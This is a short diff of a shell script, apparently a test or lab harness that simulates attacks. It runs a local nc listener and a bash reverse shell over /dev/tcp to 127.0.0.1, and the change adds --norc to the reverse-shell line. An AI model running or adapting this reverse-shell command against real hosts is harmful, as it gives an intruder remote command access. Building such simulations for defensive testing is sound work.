@@ -8,7 +8,7 @@ source "$(dirname "$ATTACK_LIB")/netns.sh"
 port=$(free_port)
 printf 'id\nexit\n' | timeout 10 nc -lN 127.0.0.1 "$port" >/dev/null &
 wait_listen 127.0.0.1 "$port"
-timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null || true
+timeout 10 bash -c "bash --norc -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null || true
 wait
 
 port=$(free_port)
